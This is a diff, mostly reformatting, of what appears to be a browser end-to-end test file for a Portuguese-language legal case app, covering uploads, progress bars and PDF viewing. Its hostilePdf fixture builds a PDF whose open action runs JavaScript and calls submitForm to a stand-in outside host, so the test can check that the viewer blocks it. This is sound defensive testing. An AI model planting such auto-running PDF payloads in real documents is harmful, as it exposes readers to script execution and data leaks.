@@ -11,7 +11,10 @@ import { expect, refusing, signIn, test } from './seeded'
 const title = 'Auto de infração ambiental'
 
 /** What lies in the folder of uploaded files. */
-const filesIn = (folder: string) => readdirSync(join(folder, 'files'), { recursive: true, withFileTypes: true }).filter((entry) => entry.isFile()).length
+const filesIn = (folder: string) =>
+  readdirSync(join(folder, 'files'), { recursive: true, withFileTypes: true }).filter((entry) =>
+    entry.isFile(),
+  ).length
 
 function largeFile(info: TestInfo, name: string): string {
   const path = info.outputPath(name)
@@ -19,13 +22,21 @@ function largeFile(info: TestInfo, name: string): string {
   return path
 }
 
-test('24 MB with its progress, and the same cancelled: nothing stays behind', async ({ page, lavra }, info) => {
+test('24 MB with its progress, and the same cancelled: nothing stays behind', async ({
+  page,
+  lavra,
+}, info) => {
   await signIn(page, 'helena')
   const caseId = await openTab(page, title)
   const before = { rows: (await documentsOf(page, caseId)).length, files: filesIn(lavra.dataDir) }
   const line = await page.context().newCDPSession(page)
   const slow = (megabytes: number) =>
-    line.send('Network.emulateNetworkConditions', { offline: false, latency: 0, downloadThroughput: -1, uploadThroughput: megabytes * 1024 * 1024 })
+    line.send('Network.emulateNetworkConditions', {
+      offline: false,
+      latency: 0,
+      downloadThroughput: -1,
+      uploadThroughput: megabytes * 1024 * 1024,
+    })
 
   await slow(8)
   const path = largeFile(info, 'audiência.zip')
@@ -54,21 +65,36 @@ test('24 MB with its progress, and the same cancelled: nothing stays behind', as
   await addWindow(page).getByRole('button', { name: 'Cancelar' }).click()
 })
 
-/** Notes in the page itself where a bar stands between nothing and all, so that nothing is missed while the test is busy. */
+/**
+ * Notes in the page itself where a bar stands between nothing and all, so that nothing is missed while the
+ * test is busy.
+ */
 async function watchProgress(page: Page, name: string) {
   const seen = await page.evaluateHandle((label) => {
     const values: number[] = []
     const note = () => {
-      const value = Number(document.querySelector(`[role=progressbar][aria-label="${label}"]`)?.getAttribute('aria-valuenow'))
+      const value = Number(
+        document.querySelector(`[role=progressbar][aria-label="${label}"]`)?.getAttribute('aria-valuenow'),
+      )
       if (value > 0 && value < 100) values.push(value)
     }
-    new MutationObserver(note).observe(document.body, { subtree: true, childList: true, attributeFilter: ['aria-valuenow'] })
+    new MutationObserver(note).observe(document.body, {
+      subtree: true,
+      childList: true,
+      attributeFilter: ['aria-valuenow'],
+    })
     return values
   }, name)
   return () => seen.jsonValue()
 }
 
-const pages = (count: number) => Array.from({ length: count }, (_, n) => Array.from({ length: 50 }, (_, line) => `Pagina ${n + 1}, linha ${line + 1}: o depoente confirmou a jornada descrita na inicial.`))
+const pages = (count: number) =>
+  Array.from({ length: count }, (_, n) =>
+    Array.from(
+      { length: 50 },
+      (_, line) => `Pagina ${n + 1}, linha ${line + 1}: o depoente confirmou a jornada descrita na inicial.`,
+    ),
+  )
 
 /** The longest pause of the page's own clock since this was asked last, in milliseconds. */
 async function watchFreezes(page: Page) {
@@ -147,9 +173,17 @@ async function readThrough(page: Page) {
 /** Asks to run a script, to fetch from elsewhere and to leave, when it is opened and on its only link. */
 function hostilePdf(): Buffer {
   const script = '<< /S /JavaScript /JS (app.alert("tomado"); this.submitForm("http://fora.exemplo/")) >>'
-  const link = '<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI (http://fora.exemplo/) >> >>'
+  const link =
+    '<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI (http://fora.exemplo/) >> >>'
   const page = `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [6 0 R] /AA << /O ${script} >> /Resources << /Font << /F1 3 0 R >> >> /Contents 5 0 R >>`
-  return pdfOf([`<< /Type /Catalog /Pages 2 0 R /OpenAction ${script} >>`, '<< /Type /Pages /Count 1 /Kids [4 0 R] >>', '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>', page, { stream: Buffer.from('BT /F1 11 Tf 56 780 Td (Leia-me) Tj ET') }, link])
+  return pdfOf([
+    `<< /Type /Catalog /Pages 2 0 R /OpenAction ${script} >>`,
+    '<< /Type /Pages /Count 1 /Kids [4 0 R] >>',
+    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
+    page,
+    { stream: Buffer.from('BT /F1 11 Tf 56 780 Td (Leia-me) Tj ET') },
+    link,
+  ])
 }
 
 refusing('a hostile, a locked and a broken PDF', async ({ page, lavra }) => {
@@ -160,7 +194,13 @@ refusing('a hostile, a locked and a broken PDF', async ({ page, lavra }) => {
   await page.reload()
   await page.getByRole('tab', { name: 'Documentos' }).click()
   const elsewhere: string[] = []
-  page.on('request', (request) => !request.url().startsWith(lavra.url) && !request.url().startsWith('blob:') && elsewhere.push(request.url()))
+  page.on(
+    'request',
+    (request) =>
+      !request.url().startsWith(lavra.url) &&
+      !request.url().startsWith('blob:') &&
+      elsewhere.push(request.url()),
+  )
   page.on('dialog', (dialog) => void dialog.dismiss().then(() => elsewhere.push(dialog.message())))
   const show = async (title: string) => {
     await page.getByRole('button', { name: `Visualizar ${title}` }).click()
@@ -179,7 +219,15 @@ refusing('a hostile, a locked and a broken PDF', async ({ page, lavra }) => {
   await page.route(/\/download$/, (route) => route.fulfill({ body: 'nada' }), { times: 1 })
   await expect((await show('Armadilha')).getByText('Este PDF não pode ser mostrado')).toBeVisible()
   await page.keyboard.press('Escape')
-  await page.route(/\/download$/, (route) => route.fulfill({ status: 404, json: { detail: 'Documento não encontrado', code: 'x', request_id: 'r' } }), { times: 2 })
+  await page.route(
+    /\/download$/,
+    (route) =>
+      route.fulfill({
+        status: 404,
+        json: { detail: 'Documento não encontrado', code: 'x', request_id: 'r' },
+      }),
+    { times: 2 },
+  )
   await expect((await show('Armadilha')).getByText('Documento não encontrado')).toBeVisible()
   await page.keyboard.press('Escape')
   await page.getByRole('button', { name: 'Baixar Armadilha' }).click()
